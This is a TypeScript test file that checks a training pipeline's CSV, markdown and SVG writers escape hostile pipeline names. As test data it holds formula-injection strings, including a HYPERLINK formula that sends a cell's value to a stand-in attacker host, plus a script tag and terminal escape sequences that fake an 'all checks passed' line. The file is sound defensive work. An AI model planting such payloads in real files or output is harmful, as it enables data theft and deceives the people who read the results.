/**
 * Tables and plots written from pipeline names: CSV cells neutralised against formula injection
 * (OWASP) and quoted (RFC 4180), numbers left as numbers; markdown cells kept in their row; SVG
 * text escaped.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvTable, curvesSvg, markdownTable, summarise } from '../../runtime/compare.ts';
import { csvCell, csvLine } from '../../runtime/csv.ts';
import { MetricsLog, type IterationMetrics } from '../../runtime/pipeline/metrics.ts';
import { expectSafeOutput, HOSTILE, RAW_CONTROL } from '../helpers/hostile.ts';

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1)', '-2+3', '+1', '\t=1', '\r=1', '=1,2'];

const row = (iteration: number, ret: number | null, loss = 0): IterationMetrics => ({
  iteration, global_step: iteration * 100, lr: 0, episodic_return: ret, episodic_length: ret, episodes: ret === null ? 0 : 1,
  loss, pg_loss: loss, v_loss: 0, entropy: 0, approx_kl: 0, clipfrac: 0, grad_norm: 0, grad_clip_frac: 0, explained_variance: 0, steps_per_sec: 0,
});
const runs = [1, 2].map((seed) => ({ seed, metrics: [row(1, -5), row(2, 10)], wallSec: 1, envSteps: 200 }));

/** Splits one CSV line into its cells (RFC 4180: quoted cells may hold commas and doubled quotes). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  // Every match ends at a comma or at the end, so a trailing empty cell (after the last comma) counts too.
  for (let m = re.exec(line); m; m = re.exec(line)) {
    const c = m[1]!;
    out.push(c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c);
    if (m[2] === '') break;
  }
  return out;
}

describe('csvCell', () => {
  it('prefixes a quote to strings a spreadsheet would run as a formula, and quotes them where needed', () => {
    for (const f of FORMULAS) {
      const c = csvCell(f);
      expect(cells(c)).toEqual([`'${f}`]);
    }
  });

  it('numbers stay numbers, negative ones included; null and undefined are empty', () => {
    expect([-1.5, 0, 2e-7, -3].map(csvCell)).toEqual(['-1.5', '0', '2e-7', '-3']);
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    // Non-finite numbers are empty, as metrics.jsonl writes them null.
    expect([NaN, Infinity, -Infinity].map(csvCell)).toEqual(['', '', '']);
  });

  it('plain strings are unchanged unless they need quoting', () => {
    expect(csvCell('ppo-cartpole')).toBe('ppo-cartpole');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvLine(['x', -1, null])).toBe('x,-1,');
  });
});

describe('compare tables with hostile pipeline names', () => {
  for (const name of FORMULAS)
    it(`compare.csv neutralises ${JSON.stringify(name)}`, () => {
      const lines = csvTable([summarise(name, runs, 5)]).trim().split('\n');
      const c = cells(lines.slice(1).join('\n'));
      expect(c[0]).toBe(`'${name}`);
      expect(c).toHaveLength(lines[0]!.split(',').length);
      // The numbers after it are untouched.
      expect(c.slice(1, 4)).toEqual(['2', '10', '0']);
    });

  it('compare.csv keeps a negative return a number', () => {
    const neg = [1, 2].map((seed) => ({ seed, metrics: [row(1, -5)], wallSec: 1, envSteps: 100 }));
    const c = cells(csvTable([summarise('p', neg, null)]).trim().split('\n')[1]!);
    expect(c[2]).toBe('-5');
  });

  it('a markdown row stays one row: | and line breaks in a name are escaped', () => {
    const name = `a|b\n| forged | row |${HOSTILE}`;
    const t = markdownTable([summarise(name, runs, null)], null);
    const lines = t.trim().split('\n');
    expect(lines).toHaveLength(3);
    // Unescaped pipes delimit the cells: as many in the row as in the header.
    const bars = (l: string) => l.replace(/\\\|/g, '').split('|').length;
    expect(bars(lines[2]!)).toBe(bars(lines[0]!));
    expectSafeOutput(t);
  });

  it('the SVG of curves escapes XML specials and control characters in names', async () => {
    const svg = await curvesSvg([summarise(`<script>${HOSTILE}</script>&`, runs, null)], `env ${HOSTILE}`);
    expect(svg).not.toMatch(RAW_CONTROL);
    expect(svg).not.toContain('<script>');
    expect(svg).toContain('&lt;script&gt;\\x1b[2Jevil\\r\\nall checks passed: ok\\u202e&lt;/script&gt;&amp;');
  });
});

describe('metrics.csv', () => {
  it('negative losses stay numbers', () => {
    const dir = mkdtempSync(join(tmpdir(), 'loom-csv-'));
    const log = new MetricsLog(dir, null, 'title');
    log.add(row(1, -20.5, -1.5));
    const lines = readFileSync(join(dir, 'metrics.csv'), 'utf8').trim().split('\n');
    const header = lines[0]!.split(',');
    const c = cells(lines[1]!);
    expect(c[header.indexOf('pg_loss')]).toBe('-1.5');
    expect(c[header.indexOf('episodic_return')]).toBe('-20.5');
  });

  it('the learning curve SVG escapes a hostile pipeline name in its title', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'loom-csv-'));
    const log = new MetricsLog(dir, null, `${HOSTILE} (CartPole-v1, seed 1)`);
    log.add(row(1, 3));
    await log.plot();
    expect(readFileSync(join(dir, 'learning-curve.svg'), 'utf8')).not.toMatch(RAW_CONTROL);
  });
});
